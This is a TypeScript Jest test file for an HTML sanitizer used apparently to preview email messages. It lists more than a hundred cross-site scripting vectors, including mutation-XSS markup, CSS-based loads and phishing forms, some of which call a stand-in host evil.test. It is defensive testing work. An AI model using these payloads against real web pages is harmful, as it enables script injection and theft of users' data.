import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS, safeHtml } from '../../src/points/preview/safe-html.ts';

const safe = (html: string, images = new Map()) => safeHtml(html, images).html;

/** Everything that is wrong with HTML, read once more by a parser: elements, attributes, addresses, styles. */
function dangersIn(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!ALLOWED_TAGS.includes(name)) found.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        const allowed = [...(ALLOWED_ATTRIBUTES['*'] ?? []), ...(ALLOWED_ATTRIBUTES[name] ?? [])];
        if (!allowed.includes(attribute)) found.push(`${name}[${attribute}]`);
        if (attribute === 'href' && !/^(https?:|mailto:|tel:)/i.test(value)) found.push(`href=${value}`);
        if (attribute === 'src' && !/^data:image\/(png|jpe?g|gif|webp|bmp);base64,/i.test(value))
          found.push(`src=${value}`);
        if (attribute === 'style' && /url|expression|@|\\|import|behavior|binding|javascript|\/\*/i.test(value)) {
          found.push(`style=${value}`);
        }
      }
    },
    onprocessinginstruction: (_, data) => found.push(`<${data}>`),
    oncomment: (data) => found.push(`<!--${data}-->`),
  });
  parser.end(html);
  return found;
}

/** Ways to run code, fetch something or leave the page, by how they try it. */
const VECTORS: Readonly<Record<string, readonly string[]>> = {
  'elements that run': [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script\n>alert(1)</script\t>',
    '<script/x>alert(1)</script>',
    '<<script>alert(1);//<</script>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code="x"></applet>',
    '<portal src="https://evil.test"></portal>',
    '<template><script>alert(1)</script></template>',
    '<xml id=x><script>alert(1)</script></xml>',
    '<isindex type=image src=1 onerror=alert(1)>',
  ],
  'handlers of events': [
    '<img src=x onerror=alert(1)>',
    '<img src=x onerror\n=alert(1)>',
    '<img src="x"onerror="alert(1)">',
    '<img/src=x/onerror=alert(1)>',
    "<img src='x' ONERROR='alert(1)'>",
    '<body onload=alert(1)>',
    '<body onpageshow=alert(1)>',
    '<p onmouseover=alert(1)>x</p>',
    '<div onpointerrawupdate=alert(1)>x</div>',
    '<details open ontoggle=alert(1)>x</details>',
    '<video src=x onerror=alert(1)></video>',
    '<audio src=x oncanplay=alert(1)></audio>',
    '<input autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=alert(1)></select>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<a href=# onclick=alert(1)>x</a>',
    '<table background=x onload=alert(1)><tr><td>x</table>',
    '<p style="animation:x" onanimationstart=alert(1)>x</p>',
    '<p \0onclick=alert(1)>x</p>',
    '<p ""onclick=alert(1)>x</p>',
  ],
  'addresses that run': [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="blob:https://x/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.test">x</a>',
    '<a href="/api/v1/tokens">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<q cite="javascript:alert(1)">x</q>',
    '<area href="javascript:alert(1)" shape=default>',
  ],
  'pictures that run': [
    '<svg onload=alert(1)></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x></svg>',
    '<svg><set attributeName="href" to="javascript:alert(1)"></svg>',
    '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math href="javascript:alert(1)">x</math>',
  ],
  'markup that changes when it is read again': [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
    '&lt;script&gt;alert(1)&lt;/script&gt;<plaintext><script>alert(1)</script>',
    '<select><template><img src=x onerror=alert(1)></template></select>',
  ],
  'styles that fetch or run': [
    '<style>@import "https://evil.test/x.css";</style>',
    '<link rel=stylesheet href="https://evil.test/x.css">',
    '<p style="background:url(https://evil.test/x)">x</p>',
    '<p style="background-image:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="width:exp/**/ression(alert(1))">x</p>',
    '<p style="color:\\75\\72\\6c(https://evil.test)">x</p>',
    '<p style="-moz-binding:url(https://evil.test/x.xml#x)">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">over everything</p>',
    '<p style="color:red;background:image-set(\'https://evil.test/x\' 1x)">x</p>',
    '<p style="font-family:\'}@import url(//evil.test)\'">x</p>',
    '<p style="list-style-type:url(https://evil.test/x)">x</p>',
  ],
  'elements that lead away or ask': [
    '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    '<base href="https://evil.test/">',
    '<form action="https://evil.test"><input name=password><button>Log in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input type=image src="https://evil.test/x">',
    '<keygen autofocus onfocus=alert(1)>',
    '<dialog open>x</dialog>',
    '<a ping="https://evil.test" href="https://ok.test">x</a>',
    '<p id="document" name="cookie">clobbered</p>',
    '<p class="fixed-overlay">dressed</p>',
  ],
  'remote content': [
    '<img src="https://evil.test/pixel.gif">',
    '<img src="http://evil.test/pixel.gif" srcset="https://evil.test/2x 2x">',
    '<img src="//evil.test/pixel.gif">',
    '<img src="/api/v1/health">',
    '<picture><source srcset="https://evil.test/x"></picture>',
    '<video poster="https://evil.test/x"></video>',
    '<table background="https://evil.test/x"><tr><td background="https://evil.test/y">x</td></tr></table>',
    '<img lowsrc="https://evil.test/x" dynsrc="https://evil.test/y">',
  ],
};

describe.each(Object.entries(VECTORS))('%s', (_, vectors) => {
  test.each(vectors)('%s', (vector) => {
    for (const html of [
      vector,
      `<p>before ${vector} after</p>`,
      `<table><tr><td>${vector}`,
      `<div title='${vector}'>x`,
    ]) {
      const cleaned = safe(html);
      expect(dangersIn(cleaned)).toEqual([]);
      expect(cleaned).not.toMatch(/<(script|svg|math|style|iframe|object|form)/i);
      // What is safe stays as it is when it is made safe again.
      expect(safe(cleaned)).toBe(cleaned);
    }
  });
});

test('there are vectors enough', () => {
  expect(Object.values(VECTORS).flat().length).toBeGreaterThanOrEqual(100);
});

test('whatever pieces are put together, nothing dangerous is left', () => {
  const piece = fc.constantFrom(
    ...Object.values(VECTORS).flat(),
    ...[
      '<',
      '>',
      '"',
      "'",
      '</',
      '<!--',
      '-->',
      '<p ',
      '<a href=',
      ' style="',
      '<svg>',
      '</svg>',
      '<style>',
      '</style>',
      '\0',
      '&#',
    ],
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
      expect(dangersIn(safe(pieces.join('')))).toEqual([]);
    }),
    { numRuns: 400 },
  );
});

describe('what is harmless stays', () => {
  test.each([
    '<p>Hello <b>world</b> &amp; <i>all</i><br /></p>',
    '<table border="1" cellpadding="2"><tr><td colspan="2" bgcolor="#ffffff">x</td></tr></table>',
    '<p style="color:#336699;font-family:Arial, sans-serif;margin-left:1.5em">x</p>',
    '<span style="color:rgb(10, 20, 30)">x</span>',
    '<font color="red" size="2">x</font>',
    '<blockquote dir="rtl" lang="he">שלום</blockquote>',
  ])('%s', (html) => {
    expect(safe(html)).toBe(html);
  });

  test('links open apart and tell nobody where they were', () => {
    expect(safe('<a href="https://example.com/a?b=1&amp;c=2" target="_self" rel="opener">x</a>')).toBe(
      '<a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
  });
});

describe('images', () => {
  const png = Buffer.from('89504e470d0a1a0a', 'hex');
  const images = new Map([
    ['logo@1', { contentType: 'image/png', content: png }],
    ['evil@1', { contentType: 'image/svg+xml', content: Buffer.from('<svg onload=alert(1)>') }],
    ['huge@1', { contentType: 'image/png', content: Buffer.alloc(3 * 1024 * 1024) }],
  ]);

  test('of the message itself are put in as data', () => {
    expect(safeHtml('<img src="cid:logo@1" alt="Logo"><img src="CID:logo%401">', images)).toEqual({
      html: `<img alt="Logo" src="data:image/png;base64,${png.toString('base64')}" /><img src="data:image/png;base64,${png.toString('base64')}" />`,
      blockedImages: 0,
      isCut: false,
    });
  });

  test('from elsewhere, of kinds that run, too large or not there are left out and counted', () => {
    const html = ['https://x.test/1', 'cid:evil@1', 'cid:huge@1', 'cid:none', 'data:image/svg+xml,x']
      .map((src) => `<img src="${src}" alt="x">`)
      .join('');
    expect(safeHtml(html, images)).toEqual({ html: '<img alt="x" />'.repeat(5), blockedImages: 5, isCut: false });
  });
});

test('HTML without end, or nested without end, costs little', () => {
  const started = performance.now();
  expect(safeHtml('<p>x'.repeat(400_000), new Map()).isCut).toBe(true);
  expect(safe('<div>'.repeat(50_000)).match(/<div>/g)?.length ?? 0).toBeLessThanOrEqual(100);
  expect(performance.now() - started).toBeLessThan(15_000);
});
